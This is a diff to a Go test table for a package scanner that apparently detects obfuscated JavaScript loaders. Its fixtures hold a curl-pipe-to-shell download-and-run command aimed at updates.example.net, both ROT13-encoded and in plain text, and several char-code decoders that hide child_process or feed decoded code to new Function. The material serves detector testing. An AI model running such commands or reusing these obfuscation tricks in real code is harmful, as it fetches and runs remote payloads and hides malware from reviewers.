@@ -143,7 +143,15 @@ const ref = unwhiten(V); const m = new module.constructor("x", module); m._compi
 function apply(m) { new Function("require", m)(require) } apply(meta("logo.png"))`}, finding.SeverityHigh},
 		// a loader compiling package files next to an image it serves
 		{"image_served_loader", map[string]string{"index.js": `const fs = require("fs"); exports.icon = () => fs.readFileSync(__dirname + "/icon.png"); exports.load = src => new Function("module", "exports", src)`}, finding.SeverityNone},
-		{"char_code_loop", map[string]string{"index.js": `const P = "dpotpmf/mph)2*"; function unpack(s) { let o = ""; let i = 0; while (i < s.length) { o += String.fromCharCode(s.charCodeAt(i) - 1); i++ } return o } new Function("require", unpack(P))(require)`}, finding.SeverityHigh},
+		// (a decoder the interpreter cannot run, here for the global it
+		// reads; one it can run shows the code it decodes, which
+		// code/dynamic-eval reports)
+		// a download-and-run command kept encoded, whatever runs it; the
+		// same command in plain text is another rule's
+		{"hidden_command", map[string]string{"index.js": `const rot = (s) => s.replace(/[a-z]/gi, (c) => String.fromCharCode(((c.charCodeAt(0) - (c <= "Z" ? 65 : 97) + 13) % 26) + (c <= "Z" ? 65 : 97)));
+const line = rot("(phey -fsFY uggcf://hcqngrf.rknzcyr.arg/h.fu | fu &)"); module.exports = () => line`}, finding.SeverityCritical},
+		{"plain_command", map[string]string{"index.js": `module.exports = () => "(curl -fsSL https://updates.example.net/u.sh | sh &)"`}, finding.SeverityNone},
+		{"char_code_loop", map[string]string{"index.js": `const P = "dpotpmf/mph)2*"; function unpack(s) { if (typeof TextDecoder == "undefined") s = s.trim(); let o = ""; let i = 0; while (i < s.length) { o += String.fromCharCode(s.charCodeAt(i) - 1); i++ } return o } new Function("require", unpack(P))(require)`}, finding.SeverityHigh},
 		// text read out of a WebAssembly heap is no hidden constant (emscripten's glue)
 		{"heap_string", map[string]string{"index.js": `function UTF8ArrayToString(heap, idx) { let str = ""; while (heap[idx]) str += String.fromCharCode(heap[idx++]); return str } function UTF8ToString(ptr) { return ptr ? UTF8ArrayToString(HEAPU8, ptr) : "" } function _emscripten_run_script(ptr) { eval(UTF8ToString(ptr)) }`}, finding.SeverityNone},
 		// install-time code giving the module system to code it builds
@@ -175,9 +183,10 @@ func TestComputedRequire(t *testing.T) {
 		// an isomorphic library hides worker_threads from browser bundlers
 		{"hidden_worker_threads", map[string]string{"index.js": `const wt = require(["worker", "threads"].join("_"))`}, finding.SeverityMedium},
 		{"plugin_loader", map[string]string{"index.js": `module.exports = name => require("./plugins/" + name)`}, finding.SeverityNone},
-		// a name out of the file's own decoder, which no folding follows
-		{"decoder_loop_name", map[string]string{"index.js": `const MOD = [115, 115, 101, 99, 111, 114, 112, 95, 100, 108, 105, 104, 99]; function inflate(t) { return t.reduce((a, _v, i, arr) => a + String.fromCharCode(arr[arr.length - 1 - i]), "") } const lib = require(inflate(MOD))`}, finding.SeverityHigh},
-		{"decoder_on_table_element", map[string]string{"index.js": `const TABLE = ["dvsm", "dijme` + "`" + `qspdftt"]; const un = s => s.replace(/[\s\S]/g, ch => String.fromCharCode(ch.charCodeAt(0) - 1)); function expand(t) { return t.length } expand(TABLE); const runner = require(un(TABLE[1]))`}, finding.SeverityHigh},
+		// a name out of the file's own decoder, which no folding shape
+		// follows: run, it decodes a name that is then known
+		{"decoder_loop_name", map[string]string{"index.js": `const MOD = [115, 115, 101, 99, 111, 114, 112, 95, 100, 108, 105, 104, 99]; function inflate(t) { return t.reduce((a, _v, i, arr) => a + String.fromCharCode(arr[arr.length - 1 - i]), "") } const lib = require(inflate(MOD))`}, finding.SeverityCritical},
+		{"decoder_on_table_element", map[string]string{"index.js": `const TABLE = ["dvsm", "dijme` + "`" + `qspdftt"]; const un = s => s.replace(/[\s\S]/g, ch => String.fromCharCode(ch.charCodeAt(0) - 1)); function expand(t) { return t.length } expand(TABLE); const runner = require(un(TABLE[1]))`}, finding.SeverityCritical},
 		{"decoder_of_input", map[string]string{"index.js": `function inflate(t) { return t.reduce((a, c) => a + String.fromCharCode(c), "") } module.exports = bytes => require(inflate(bytes))`}, finding.SeverityNone},
 		{"plain", map[string]string{"index.js": `require("child_process")`}, finding.SeverityNone},
 		{"decoded_child_process", map[string]string{"index.js": `require(String.fromCharCode(99,104,105,108,100,95,112,114,111,99,101,115,115)).exec(c)`}, finding.SeverityCritical},
